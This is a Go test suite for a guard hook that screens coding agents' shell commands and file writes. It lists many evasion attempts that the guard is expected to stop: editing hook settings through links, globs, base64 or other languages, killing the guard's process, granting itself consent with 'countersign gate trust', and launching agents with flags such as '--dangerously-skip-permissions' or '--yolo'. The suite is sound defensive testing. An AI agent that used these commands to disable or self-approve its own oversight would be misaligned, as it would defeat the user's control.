package guard

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/countersign/countersign/cmd/countersign/guard/agents"
)

// newGuarded returns a machine where an agent's settings contain the guard's hook.
func newGuarded(t *testing.T) *machine {
	m := newMachine(t)
	t.Setenv("HOME", m.Home)
	t.Setenv("PATH", filepath.Join(m.root, "go", "bin")+":"+os.Getenv("PATH"))
	t.Setenv("CLAUDE_CONFIG_DIR", "")
	for _, file := range []string{".claude/settings.json", ".codex/hooks.json", ".cursor/hooks.json", ".gemini/settings.json", ".local/state/countersign/gate.log"} {
		m.write(filepath.Join(m.Home, file), "{}")
	}
	m.write(filepath.Join(m.web, ".claude", "settings.json"), "{}")
	m.write(filepath.Join(m.web, ".claude", "commands", "a.md"), "a")
	if err := os.MkdirAll(filepath.Join(m.root, "go", "bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	for from, to := range map[string]string{
		filepath.Join(m.root, "go", "bin", "countersign"): m.Program,
		filepath.Join(m.web, "linkedfile"):                filepath.Join(m.Home, ".claude", "settings.json"),
		filepath.Join(m.web, "linkeddir"):                 filepath.Join(m.Home, ".claude"),
		filepath.Join(m.web, "dangling"):                  filepath.Join(m.Home, ".config", "countersign.json"),
	} {
		if err := os.Symlink(to, from); err != nil {
			t.Skip(err)
		}
	}
	if err := os.Link(m.Program, filepath.Join(m.web, "hard")); err != nil {
		t.Skip(err)
	}
	return m
}

// The guard asks about each command that changes the agents' settings, or the guard's settings,
// state or program, however the path is written.
func TestProtectRealPaths(t *testing.T) {
	m := newGuarded(t)
	program := m.Program
	for _, command := range []string{
		// links to files and folders, also links whose target does not exist
		"echo '{}' > linkedfile", "cp x linkedfile", "tee linkeddir/settings.json < x", "rm linkeddir/settings.json", "echo '{}' > dangling",
		"ln -s ~/.claude d && echo '{}' > d/settings.json", "ln ~/.claude/settings.json x && echo > x", "mount --bind /tmp ~/.claude",
		// relative paths
		"cd ~/.claude && echo '{}' > settings.json", "cd ~/.claude; rm settings.json", "cd ../.. && rm .codex/hooks.json", "pushd ~/.gemini && mv settings.json x",
		"cd ~/.claude && tar xf /tmp/a.tgz", "tar xzf a.tgz -C ~/.claude", "unzip a.zip -d ~/.codex", "git clone https://x.example/r ~/.claude", "cd ~/.claude && git clone https://x.example/r .",
		// quotes, globs, backslashes, braces, variables
		`rm ~/.cl"au"de/sett'ings'.json`, `rm ~/.claude/set*.json`, `rm ~/.cl?ude/settings.json`, `rm ~/.c[l]aude/settings.json`, `rm ~/.cla\ude/settings.json`, `rm ~/.claude/{settings,x}.json`, "rm -rf ~/.c*",
		`D=~/.claude; F=settings; rm "$D/$F.json"`, `f=.claude; rm -r $f`, `rm "$HOME/.claude/settings.json"`, "rm ${HOME}/.codex/hooks.json", `eval "rm ~/.claude/settings.json"`, "bash -c 'rm ~/.claude/settings.json'",
		"echo cm0gfi8uY2xhdWRlL3NldHRpbmdzLmpzb24= | base64 -d | sh", `for f in ~/.claude/*; do rm "$f"; done`, "find ~/.claude -name '*.json' -delete", "find ~/.claude -type f -exec rm {} +", "echo ~/.claude/settings.json | xargs rm",
		`rm "$(echo ~/.claude)/settings.json"`, "X=$(cat y); rm $X/.claude/settings.json",
		// folders with everything in them, and parent folders
		"rm -rf ~/.claude", "mv ~/.claude ~/.c", "chmod 000 ~/.claude", "rm -rf .claude", "rm -rf ~/.local/state", "mv ~/.local ~/l", "chmod -R a-r ~/.cursor",
		// the guard's state and settings
		"rm ~/.local/state/countersign/gate.log", "echo '[]' > ~/.local/state/countersign/trust.json", "truncate -s 0 ~/.local/state/countersign/gate.head", "echo '{}' > ~/.config/countersign.json", "echo '{}' > ~/.countersign.json",
		"echo '{}' > .countersign.json", "cp x src/.countersign.json", "git checkout other -- .countersign.json", "git mv x .countersign.json",
		// the guard's program
		"cp /bin/true " + program, "ln -sf /bin/true " + program, "rm " + program, "chmod -x " + program, "chmod 644 " + program, "mv " + program + " /tmp/x", "mv " + filepath.Dir(program) + " /tmp/x", "chmod 000 " + filepath.Dir(program),
		"rm -rf " + filepath.Dir(filepath.Dir(program)), "install -m 755 x " + program, "cp countersign " + filepath.Dir(program), "cat x > " + program, "dd if=/dev/zero of=" + program, "echo x > hard",
		`cp /bin/true "$(command -v countersign)"`, "ln -sf /bin/true $(which countersign)", "rm `which countersign`", `chmod -x "$(type -p countersign)"`, `cd "$(dirname "$(which countersign)")" && rm countersign`,
		"cp /bin/true " + m.root + "/go/bin/countersign", "rm " + m.root + "/go/bin/countersign", "rsync x " + program, "go build -o " + program + " ./x", "curl -so " + program + " https://x.example/p",
		// code in other languages
		`python3 -c "import os; os.remove(os.path.expanduser('~/.claude/settings.json'))"`, `python3 -c "open('.claude/settings.json','w').write('{}')"`, `node -e "require('fs').writeFileSync('.claude/settings.json','{}')"`,
		"perl -e 'unlink glob(\"~/.claude/settings.json\")'", "ruby -e 'File.delete(\".claude/settings.json\")'", "python3 - <<'E'\nimport pathlib\npathlib.Path('.claude/settings.json').write_text('{}')\nE",
		"powershell -Command \"Remove-Item .claude/settings.json\"", "sed -i s/a/b/ .claude/settings.json", "jq . x > .claude/settings.json", "vim -es -c 'w! .claude/settings.json' -c q x", "sqlite3 x '.output .claude/settings.json'",
		// commands of the agents and of the guard
		"codex features disable hooks", "countersign gate hook --install claude --uninstall", "countersign gate hook --install codex --write",
	} {
		if got, answer := m.decide(command, m.web); got != agents.Ask && got != agents.Deny {
			t.Errorf("%q passes: %s", command, answer)
		} else if !strings.Contains(answer, "hook.guard-settings") {
			t.Logf("%q: %s", command, answer)
		}
	}
}

// The guard does not ask about commands that only read or name these files, or work on other
// files.
func TestProtectLeavesWorkAlone(t *testing.T) {
	m := newGuarded(t)
	for _, command := range []string{
		"cat ~/.claude/settings.json", "ls -la ~/.claude .claude", "jq .hooks .claude/settings.json", "grep -rn hooks .claude", "cp ~/.claude/settings.json /tmp/backup.json", "diff .claude/settings.json ~/.claude/settings.json",
		"git add .claude/settings.json .countersign.json", "git commit -m 'hold the guard in .claude/settings.json'", "git diff .claude/settings.json", "git log -- .countersign.json", "git checkout main", "git pull",
		"mkdir -p .claude/commands && echo hi > .claude/commands/b.md", "rm .claude/commands/a.md", "cp -r skills .claude/skills", "echo '# x' > CLAUDE.md",
		"npx prettier --check .", "npx eslint . --ignore-pattern .claude", "tar --exclude .claude -czf app.tgz .", "rsync -a --exclude .claude src/ dst/", "chmod +x script.sh", "chmod -R u+rwX .", "chmod 755 src",
		"find . -name '*.json' -not -path './.claude/*'", "find . -name '*.pyc' -delete", "rm -rf node_modules dist", "mv src/a.go src/b.go", "ln -s ../a b", "touch src/new.go", "cd src && go build ./...",
		"which countersign", "countersign gate log", "countersign doctor --hook", "ls $(dirname $(which countersign))", "echo 'see ~/.claude/settings.json'", "codex features list",
		"cp /bin/true bin/countersign-test", "go install ./...", "python3 -c \"print(1)\"", "python3 -c \"import json; print(json.load(open('package.json')))\"", "git commit -m 'docs: explain countersign gate allow'", "gh pr create --body 'run countersign gate allow'",
		"countersign gate allow --help", "make -C src", "git -C ~/.claude status",
	} {
		if got, answer := m.decide(command, m.web); got != agents.Pass {
			t.Errorf("%q: %s: %s", command, got, answer)
		}
	}
}

// Only the user can give consent to the guard: a tool call of an agent that tries is denied.
func TestProtectConsent(t *testing.T) {
	m := newGuarded(t)
	for _, command := range []string{
		"countersign gate allow git.push.force-branch --reason x", "countersign gate allow --once ABCD-EFGH", "countersign gate trust", "countersign gate trust .", m.Program + " gate trust", "countersign-guard gate allow",
		"$(which countersign) gate allow x --reason y", "cd /tmp && " + m.root + "/go/bin/countersign gate trust", "cp $(which countersign) /tmp/x && /tmp/x gate allow a --reason b", "ln -s " + m.Program + " ./z; ./z gate trust",
		"c=countersign; $c gate trust", `"coun"tersign gate trust`, `c\ountersign gate al""low x`, "eval 'countersign gate trust'", "sh -c 'countersign gate trust'", "echo Y291bnRlcnNpZ24gZ2F0ZSB0cnVzdA== | base64 -d | bash",
		"yes | countersign gate trust", "script -qc 'countersign gate trust' /dev/null", "expect -c 'spawn countersign gate trust; send y'", "nohup countersign gate trust &", "xargs countersign gate < x", "echo trust | xargs countersign gate",
		"setsid countersign gate trust", "sudo countersign gate trust", "tmux new -d 'countersign gate trust'", "timeout 5 countersign gate allow x --reason y", "env -i countersign gate trust", "countersign --json gate trust", "g=gate; a=allow; countersign $g $a x",
		`python3 -c "import subprocess; subprocess.run(['countersign','gate','trust'])"`, `python3 -c "import os; os.system('countersign gate allow x')"`, `node -e "require('child_process').execFileSync('countersign',['gate','trust'])"`, `perl -e 'system("countersign","gate","trust")'`,
		"cat > x.sh <<'E'\ncountersign gate trust\nE\nbash x.sh", "find . -maxdepth 0 -exec countersign gate trust \\;", "ssh localhost countersign gate trust",
	} {
		got, answer := m.decide(command, m.web)
		if command == "xargs countersign gate < x" {
			continue // the value of x is unknown; "gate allow" itself then asks at the terminal
		}
		if got != agents.Deny || !strings.Contains(answer, "hook.own-consent") {
			t.Errorf("%q: %s: %s", command, got, answer)
		}
	}
}

// A copy of a folder's contents into another folder copies settings, too.
func TestProtectCopiedContents(t *testing.T) {
	m := newGuarded(t)
	m.write(filepath.Join(m.web, "x", "settings.json"), "{}")
	m.write(filepath.Join(m.web, "all", ".claude", "settings.json"), "{}")
	m.write(filepath.Join(m.web, "skills", "a.md"), "a")
	for command, stopped := range map[string]bool{
		"cp -r x/. .claude/": true, "cp -a x/. .claude": true, "rsync -a x/ .claude/": true, "cp -rT x .claude": true, "cd x && cp -r . ../.claude": true, "ditto x .claude": true, "cp -r x/. ~/.claude/": true, "cp -r gone/. .codex": true, "rsync -a --exclude a x/ ./.claude": true, "cp -r -t .claude x/.": true,
		"cp -r all/. .": true, "rsync -a all/ ./": true, "cp -r x/. linkeddir/": true,
		"cp -r skills .claude/": false, "cp -r skills/. .claude/commands/": false, "rsync -a skills/ .claude/skills/": false, "cp -r src/. out/": false, "rsync -a src/ out/": false, "cp -r x/. out/": false, "cp -r .claude/. out/": false, "cp -r skills/ .claude/": false,
	} {
		got, answer := m.decide(command, m.web)
		if (got != agents.Pass) != stopped {
			t.Errorf("%s: %s: %s", command, got, answer)
		}
	}
}

// The guard asks about a command that stops it.
func TestProtectProcess(t *testing.T) {
	m := newGuarded(t)
	for command, stopped := range map[string]bool{
		"pkill -f countersign": true, "pkill countersign": true, "pkill -9 -f 'counters.*'": true, "killall countersign": true, "killall -9 countersign-guard": true, "sudo pkill -f 'countersign gate hook'": true, "pkill -f .": true, "pkill -STOP countersign": true,
		"kill -9 $PPID": true, "kill $PPID": true, `kill -STOP "$PPID"`: true, "kill -9 -1": true, "kill $(pgrep -f countersign)": true, "pgrep countersign | xargs kill -9": true, "kill -9 $(pidof countersign)": true, "ps aux | grep countersign | awk '{print $2}' | xargs kill": true, "p=$(pgrep countersign); kill $p": true,
		`python3 -c "import os; os.kill(os.getppid(), 9)"`: true, `node -e "process.kill(process.ppid)"`: true, "bash -c 'kill -9 $PPID'": true, "taskkill /F /IM countersign.exe": true,
		"pkill -f 'node server.js'": false, "killall node": false, "kill 4242": false, "kill -9 4242": false, "kill -0 $PPID": false, "kill $SERVER_PID": false, "kill %1": false, "pgrep -fl countersign": false, "ps aux | grep countersign": false, "pkill -f 'countersign serve'": false, "kill $(lsof -ti :3000)": false, "kill -l": false, "echo $PPID": false, "git commit -m 'pkill countersign'": false, "grep -n countersign a.go; kill $SERVER_PID": false,
	} {
		got, answer := m.decide(command, m.web)
		if (got != agents.Pass) != stopped {
			t.Errorf("%s: %s: %s", command, got, answer)
		}
	}
}

// The guard asks about a command that starts an agent without its guard.
func TestProtectLaunches(t *testing.T) {
	m := newGuarded(t)
	for _, command := range []string{
		`claude --dangerously-skip-permissions -p "clean the repo"`, "claude --allow-dangerously-skip-permissions", "claude -p x --permission-mode bypassPermissions", "claude --permission-mode=bypassPermissions", `claude --settings '{"disableAllHooks":true}' -p x`,
		"claude --settings other.json -p x", "claude --setting-sources project -p x", "CLAUDE_CONFIG_DIR=/tmp/x claude -p x", "export CLAUDE_CONFIG_DIR=/tmp/x; claude -p x", "env HOME=/tmp/x claude -p x", "claude --bare -p x",
		`codex exec --dangerously-bypass-approvals-and-sandbox "fix it"`, "codex --yolo", "codex exec -s danger-full-access x", "codex exec --sandbox danger-full-access x", "codex --full-auto x", "codex -c features.hooks=false exec x", "codex --disable hooks exec x", "CODEX_HOME=/tmp/x codex exec y", "codex -a never exec x",
		`cursor-agent -p --force "x"`, "cursor-agent -f -p x", "gemini --yolo -p x", "gemini -y -p x", "gemini --approval-mode=yolo -p x", "gemini --approval-mode yolo", "gemini --skip-trust -p x", "qwen --yolo -p x", "copilot --allow-all-tools -p x", "copilot --yolo -p x",
		"OPENCODE_CONFIG=/tmp/x.json opencode run x", "aider --yes-always -m x", "amp --dangerously-allow-all -x y", "droid exec --skip-permissions-unsafe x", "kiro-cli chat --trust-all-tools x", "npx @anthropic-ai/claude-code --dangerously-skip-permissions -p x", "npx -y @openai/codex exec --yolo x", "bunx @google/gemini-cli --yolo",
		"sh -c 'claude --dangerously-skip-permissions -p x'", "nohup claude --dangerously-skip-permissions -p x &", "tmux new-session -d 'claude --dangerously-skip-permissions'", "timeout 60 codex --yolo", "newagent --dangerously-skip-permissions run", "newagent --yolo",
		`c=claude; $c --dangerously-skip-permissions`, "xargs -I{} claude --dangerously-skip-permissions -p {} < tasks",
	} {
		got, answer := m.decide(command, m.web)
		if got != agents.Ask && got != agents.Deny {
			t.Errorf("%q passes: %s", command, answer)
		}
	}
	for _, command := range []string{
		"claude --version", "claude -p 'say hi'", "claude --help", "claude mcp list", "claude doctor", "codex exec 'fix the tests'", "codex --help", "gemini -p hi", "cursor-agent -p x", "opencode run x", "aider -m 'x'", "npm i -g @anthropic-ai/claude-code",
		"git commit -m 'never run claude --dangerously-skip-permissions'", "grep -rn -- --yolo .", "echo claude --dangerously-skip-permissions", "claude config list", "copilot -p x", "gh pr create --title 'drop --yolo'", "rg dangerously-skip-permissions docs",
	} {
		m.want(agents.Pass, command, m.web)
	}
}

// A tool that writes to a file is judged by the file's real path.
func TestProtectFileTools(t *testing.T) {
	m := newGuarded(t)
	event := func(tool, input string) []byte {
		return fmt.Appendf(nil, `{"hook_event_name":"PreToolUse","permission_mode":"default","cwd":%q,"tool_name":%q,"tool_input":%s}`, m.web, tool, input)
	}
	for _, file := range []string{".claude/settings.json", "linkedfile", "linkeddir/settings.json", "dangling", m.Program, "../../.codex/hooks.json", m.Home + "/.config/countersign.json", ".countersign.json", "hard", m.State() + "/trust.json", "~/.gemini/settings.json", ".CLAUDE/Settings.json"} {
		for _, tool := range []string{"Write", "Edit", "write_file", "mcp__filesystem__write_file", "mcp__filesystem__edit_file"} {
			input := fmt.Sprintf(`{"file_path":%q,"content":"x","old_string":"a","new_string":"b"}`, file)
			if strings.HasPrefix(tool, "mcp") {
				input = fmt.Sprintf(`{"path":%q,"content":"x"}`, file)
			}
			if got, answer := m.answer(event(tool, input)); got == agents.Pass {
				t.Errorf("%s %s passes: %s", tool, file, answer)
			}
		}
	}
	for _, folder := range []string{"~/.claude", "../../.claude", m.Home + "/.claude", "linkeddir"} { // working folders that the model names
		input := fmt.Sprintf(`{"command":"echo '{}' > settings.json","workdir":%q}`, folder)
		if got, answer := m.answer(event("Bash", input)); got == agents.Pass {
			t.Errorf("in %s: %s", folder, answer)
		}
	}
	for _, file := range []string{"src/a.go", ".claude/commands/b.md", "CLAUDE.md", m.Home + "/notes.md"} {
		if got, answer := m.answer(event("Write", fmt.Sprintf(`{"file_path":%q,"content":"x"}`, file))); got != agents.Pass {
			t.Errorf("%s: %s: %s", file, got, answer)
		}
	}
}
